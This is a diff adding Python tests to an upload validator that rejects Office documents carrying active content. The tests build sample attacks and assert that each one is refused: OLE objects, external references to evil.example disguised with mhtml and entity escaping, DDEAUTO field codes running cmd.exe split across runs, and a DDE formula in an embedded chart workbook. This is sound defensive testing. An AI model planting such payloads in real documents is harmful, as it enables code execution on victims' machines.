@@ -338,3 +338,41 @@ def test_a_workbook_openpyxl_wrote_with_formulas_and_a_link_passes(ctx):
     buf = io.BytesIO()
     wb.save(buf)
     validate_uploads([Upload("台账.xlsx", buf.getvalue())], "files")
+
+
+def test_active_content_is_found_as_word_reads_the_document(ctx):
+    """By relationship type, not folder; references resolved; a field code split over runs; XML under any name."""
+    rel = ('<Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" '
+           'Target="%s"%s/>')
+    objects = _RELS % (rel % ("oleObject", "objects/oleObject1.bin", "")).encode()
+    assert "embedded objects" in _refused(ctx, "x.docx", _docx({"word/_rels/document.xml.rels": objects,
+                                                                 "word/objects/oleObject1.bin": b"MZ\x90\x00"}))
+    escaped = _RELS % (rel % ("oleObject", "mhtml:http://evil.example/x.html!x-usc:http://evil.example/x.html",
+                              ' TargetMode="&#69;xternal"')).encode()
+    assert "embedded objects" in _refused(ctx, "x.docx", _docx({"word/_rels/document.xml.rels": escaped}))
+    disguised = _RELS % (rel % ("oleObject", "http://evil.example/?Type=&apos;a/hyperlink&apos;",
+                                ' TargetMode="External"')).encode()
+    assert "embedded objects" in _refused(ctx, "x.docx", _docx({"word/_rels/document.xml.rels": disguised}))
+    split = (b'<?xml version="1.0"?><w:ftr xmlns:w="w"><w:r><w:instrText>DD</w:instrText></w:r>'
+             b'<w:r><w:instrText>EAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r></w:ftr>')
+    assert "DDE" in _refused(ctx, "x.docx", _docx({"word/footer1.xml": split}))
+    assert "DDE" in _refused(ctx, "x.docx", _docx({"word/footer1.dat": split}))
+    simple = b'<?xml version="1.0"?><w:ftr xmlns:w="w"><w:fldSimple w:instr=" DDEAUTO cmd x "/></w:ftr>'
+    assert "DDE" in _refused(ctx, "x.docx", _docx({"word/footer2.xml": simple}))
+
+
+def test_a_chart_s_workbook_inside_a_document_passes_and_is_itself_checked(ctx):
+    from openpyxl import Workbook
+
+    wb = Workbook()
+    wb.active["A1"] = 3
+    buf = io.BytesIO()
+    wb.save(buf)
+    chart_rels = _RELS % (b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+                          b'relationships/package" Target="../embeddings/Microsoft_Excel_Worksheet.xlsx"/>')
+    validate_uploads([Upload("a.docx", _docx({"word/charts/_rels/chart1.xml.rels": chart_rels,
+                                              "word/embeddings/Microsoft_Excel_Worksheet.xlsx": buf.getvalue()}))], "files")
+    sheet = b'<?xml version="1.0"?><worksheet><sheetData><row><c r="A1"><f>cmd|\' /C calc\'!A0</f></c></row></sheetData></worksheet>'
+    bad = _xlsx({"xl/worksheets/sheet1.xml": sheet})
+    assert "DDE" in _refused(ctx, "a.docx", _docx({"word/charts/_rels/chart1.xml.rels": chart_rels,
+                                                   "word/embeddings/Microsoft_Excel_Worksheet.xlsx": bad}))
